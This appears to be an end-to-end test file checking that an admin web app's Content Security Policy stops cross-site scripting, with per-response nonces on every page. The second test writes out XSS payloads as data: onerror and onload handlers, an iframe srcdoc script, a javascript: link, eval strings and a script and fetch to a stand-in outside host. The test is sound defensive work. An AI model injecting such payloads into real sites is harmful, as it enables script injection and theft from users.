import type { Browser, Page } from 'playwright-core'
import { afterAll, beforeAll, expect, it } from 'vitest'
import { REACHED_ELSEWHERE, sections } from '../../src/plugins/today/nav.ts'
import { openBrowser, openPage, visit } from './support/browser.ts'
import { startKanal, type RunningKanal } from './support/kanal.ts'
import { becomeFirstOwner, connectShop, openForm, PARTNER, saveKeys } from './support/steps.ts'

/**
 * Threat T8, the rule for scripts. Every page of the admin is opened and works under a policy that lets no script run
 * but those of this very answer; then somebody gets text into the page, in every way text becomes script.
 */
let kanal: RunningKanal
let browser: Browser
let page: Page
const broken: string[] = []

beforeAll(async () => {
  kanal = await startKanal()
  browser = await openBrowser()
  page = await openPage(browser)
  page.on('console', (message) => {
    if (/content security policy/i.test(message.text())) broken.push(`${page.url()}: ${message.text()}`)
  })
  await page.addInitScript(() => {
    addEventListener(
      'securitypolicyviolation',
      ({ effectiveDirective, blockedURI, sourceFile, lineNumber }) =>
        console.error(
          `Content Security Policy: ${effectiveDirective} ${blockedURI} ${sourceFile}:${lineNumber}`,
        ),
    )
  })
})
afterAll(async () => {
  await browser?.close()
  await kanal?.stop()
})

const pages = [
  ...new Set(
    sections.flatMap(({ main, more }) =>
      [main, ...more].map((link) => ('path' in link ? link.path : `/collections/${link.collection}`)),
    ),
  ),
  ...REACHED_ELSEWHERE.map((slug) => `/collections/${slug}`),
]

it('T8: every page works under the rule for scripts, and breaks it nowhere', async () => {
  await becomeFirstOwner(page, kanal)
  await openForm(page, kanal, 'Shopee')
  await saveKeys(page, PARTNER.key)
  await page.getByText('Kredensial teruji dan tersimpan').first().waitFor()
  await connectShop(page, kanal, 'Dapur & Batik Laweyan')
  const opened = new Set<string>()
  for (const path of new Set(pages)) {
    const answer = await page.goto(`${kanal.url}/admin${path}`)
    await visit(page, page.url())
    expect([path, answer?.status()]).toEqual([path, 200])
    const policy = answer?.headers()['content-security-policy'] ?? ''
    const rule = policy.split('; ').find((part) => part.startsWith('script-src '))
    expect(rule).toMatch(/^script-src 'self' 'nonce-[A-Za-z0-9+/]{22}=='$/)
    opened.add(rule ?? '')
    const create = page.locator('a[href$="/create"]').first()
    if (await create.isVisible()) await visit(page, `${kanal.url}/admin${path}/create`)
    const first = page.locator('.collection-list td a').first()
    if (await first.isVisible().catch(() => false))
      await visit(page, new URL((await first.getAttribute('href')) ?? '', page.url()).href)
  }
  expect(opened.size).toBe(new Set(pages).size)
  for (const path of ['/account', '/no-such-page', '/collections/no-such', '/logout', '/login', '/forgot'])
    await visit(page, `${kanal.url}/admin${path}`)
  expect((await page.goto(`${kanal.url}/no-such-page`))?.status()).toBe(404)
  await page.goto(kanal.url)
  await page.waitForURL(/\/admin/)
  expect(broken).toEqual([])
}, 900_000)

it('T8: text that reaches a page never runs, however it tries, and cannot carry anything away', async () => {
  await visit(page, `${kanal.url}/admin/login`)
  const ran = await page.evaluate(async () => {
    const done: string[] = []
    const refused: string[] = []
    Object.assign(window, { done })
    const put = (html: string): void => void document.body.insertAdjacentHTML('beforeend', html)
    put('<img src="x:" onerror="done.push(\'handler\')">')
    put('<svg onload="done.push(\'svg\')"></svg>')
    put('<iframe srcdoc="<script>parent.done.push(\'frame\')<\/script>"></iframe>')
    put('<a id="kanal-uji" href="javascript:done.push(\'link\')">x</a>')
    document.getElementById('kanal-uji')?.click()
    const elsewhere = document.createElement('script')
    elsewhere.src = 'https://elsewhere.test/a.js'
    document.body.append(elsewhere)
    const parsed = new DOMParser().parseFromString('<script>done.push("parsed")<\/script>', 'text/html')
    for (const script of parsed.scripts) document.body.append(document.importNode(script, true))
    // What a debugger runs may evaluate text; a later turn of the page's own may not.
    const attempts = [() => Function('done.push("function")')(), () => eval('done.push("eval")')]
    for (const attempt of attempts)
      setTimeout(() => {
        try {
          attempt()
        } catch (error) {
          refused.push((error as Error).name)
        }
      }, 50)
    setTimeout('done.push("timer")', 50)
    await fetch('https://elsewhere.test/?x').then(
      () => done.push('sent'),
      () => undefined,
    )
    await new Promise((resolve) => setTimeout(resolve, 500))
    return { done, refused }
  })
  expect(ran).toEqual({ done: [], refused: ['EvalError', 'EvalError'] })
  expect(broken.join('\n')).toMatch(/script-src-attr/)
  expect(broken.join('\n')).toMatch(/script-src-elem https:\/\/elsewhere\.test\/a\.js/)
  expect(broken.join('\n')).toMatch(/connect-src/)
})

it('T8: a nonce is of one answer only, whatever the client asks for', async () => {
  const nonces = new Set<string>()
  for (let n = 0; n < 20; n += 1) {
    const answer = await page.request.get(`${kanal.url}/admin/login`, {
      headers: { 'content-security-policy': "script-src 'nonce-chosen'" },
    })
    const nonce = /'nonce-([^']+)'/.exec(answer.headers()['content-security-policy'] ?? '')?.[1] ?? ''
    const html = await answer.text()
    expect(html).not.toContain('chosen')
    for (const [tag] of html.matchAll(/<script\b[^>]*>/g)) expect(tag).toContain(`nonce="${nonce}"`)
    nonces.add(nonce)
  }
  expect(nonces.size).toBe(20)
})
